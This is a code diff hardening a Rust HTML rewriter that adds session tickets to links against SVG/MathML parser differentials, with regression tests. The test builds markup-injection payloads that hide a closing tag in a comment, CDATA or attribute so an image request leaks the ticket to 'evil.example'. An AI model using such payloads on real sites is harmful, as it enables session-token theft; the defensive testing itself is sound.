@@ -41,7 +41,13 @@
 //!     reports there means it believes itself in SVG or MathML, which it
 //!     can after the browser has left (`<svg/>`, a closed parent); what it
 //!     reads as a link the browser reads as text, to be reassembled into
-//!     a request elsewhere.
+//!     a request elsewhere;
+//!   - once the page has had an `<svg>` or `<math>`, nothing after its next
+//!     text-only element gets the ticket, to the end of the page: where
+//!     lol_html reads that element as SVG markup and the browser as HTML
+//!     text, the two end it at different places (a `</style>` hidden in a
+//!     comment, a CDATA section or an attribute), and what follows is not
+//!     the same document to both.
 //!
 //! Scripts, styles and comments are not HTML elements to lol_html, so
 //! links inside them are never touched; what a page's own scripts do with
@@ -92,6 +98,15 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
     // open around the current element: no ticket is given inside one.
     let ambiguous = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
     let open = ambiguous.clone();
+    // An <svg> or <math> has begun, and then a text-only element: the rest
+    // of the page gets no ticket.
+    let foreign_seen = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let diverged = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let (seen, diverging) = (foreign_seen.clone(), diverged.clone());
+    let foreign = move |_: &mut Element<'_, '_>| -> HandlerResult {
+        seen.store(true, std::sync::atomic::Ordering::Relaxed);
+        Ok(())
+    };
     let text_only = move |el: &mut Element<'_, '_>| -> HandlerResult {
         let tag = el.tag_name();
         if el.removed() {
@@ -99,7 +114,12 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
         }
         if matches!(tag.as_str(), "noscript" | "mglyph" | "malignmark") {
             el.remove();
-        } else if el.can_have_content() {
+            return Ok(());
+        }
+        if foreign_seen.load(std::sync::atomic::Ordering::Relaxed) {
+            diverging.store(true, std::sync::atomic::Ordering::Relaxed);
+        }
+        if el.can_have_content() {
             open.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
             let open = open.clone();
             el.on_end_tag(Box::new(move |_| {
@@ -117,7 +137,8 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
         // Anything that could send the page's address elsewhere goes first.
         el.remove_attribute("ping");
         el.remove_attribute("referrerpolicy");
-        let inside_ambiguous = ambiguous.load(std::sync::atomic::Ordering::Relaxed) > 0;
+        let inside_ambiguous = ambiguous.load(std::sync::atomic::Ordering::Relaxed) > 0
+            || diverged.load(std::sync::atomic::Ordering::Relaxed);
         let tag = el.tag_name();
         if tag == "base" {
             // Only the first <base href> counts (HTML §4.2.3).
@@ -188,6 +209,7 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
         // before it counts as open around what follows.
         .append_element_content_handler(lol_html::element!(SELECTOR, handler))
         .append_element_content_handler(lol_html::element!(TEXT_ONLY, text_only))
+        .append_element_content_handler(lol_html::element!("svg, math", foreign))
         .with_encoding(encoding)
         .with_adjust_charset_on_meta_tag(true)
         .with_memory_settings(
@@ -372,13 +394,41 @@ mod tests {
     }
 
     #[test]
-    fn svg_and_mathml_that_close_normally_keep_their_links_and_those_after() {
+    fn svg_and_mathml_keep_links_until_a_text_only_element_follows_them() {
         let out = all_ways(
-            "<svg><style>.c{fill:red}</style><a href=\"/in-svg\"><text>t</text></a></svg>\
-             <math><mi>x</mi></math><a href=\"/after\">a</a>",
+            "<a href=\"/before\">b</a><svg><a href=\"/in-svg\"><text>t</text></a></svg>\
+             <math><mi>x</mi></math><a href=\"/after\">a</a>\
+             <style>p{}</style><a href=\"/after-style\">s</a>",
         );
+        assert!(out.contains("/before?SID=abc"), "{out}");
         assert!(out.contains("/in-svg?SID=abc"), "{out}");
         assert!(out.contains("/after?SID=abc"), "{out}");
+        assert!(!out.contains("/after-style?SID"), "{out}");
+        // Without any SVG or MathML, text-only elements cost nothing.
+        let out =
+            all_ways("<style>p{}</style><title>t</title><script>1</script><a href=\"/x\">x</a>");
+        assert!(out.contains("/x?SID=abc"), "{out}");
+    }
+
+    /// The text-only element ends where lol_html's SVG reading puts its end
+    /// tag, later than the browser's: a `</style>` the browser honours is
+    /// hidden from lol_html in a comment, CDATA or an attribute (an outside
+    /// review leaked the ticket this way through each).
+    #[test]
+    fn after_svg_a_text_only_element_ends_the_tickets_for_the_page() {
+        for close in ["style", "title", "textarea", "xmp", "noembed", "script"] {
+            for hide in [
+                format!("<!--</{close}><img src='http://evil.example/?-->"),
+                format!("<![CDATA[</{close}><img src='http://evil.example/?]]>"),
+                format!("<b title=\"</{close}><img src='http://evil.example/?\">"),
+            ] {
+                for opening in ["<div><svg></div>", "<svg/>", "<math><mi><svg></mi>"] {
+                    let page = format!("{opening}<{close}>{hide}</{close}><a href=/x>'>");
+                    let out = all_ways(&page);
+                    assert!(!out.contains("SID=abc"), "{page}: {out}");
+                }
+            }
+        }
     }
 
     #[test]
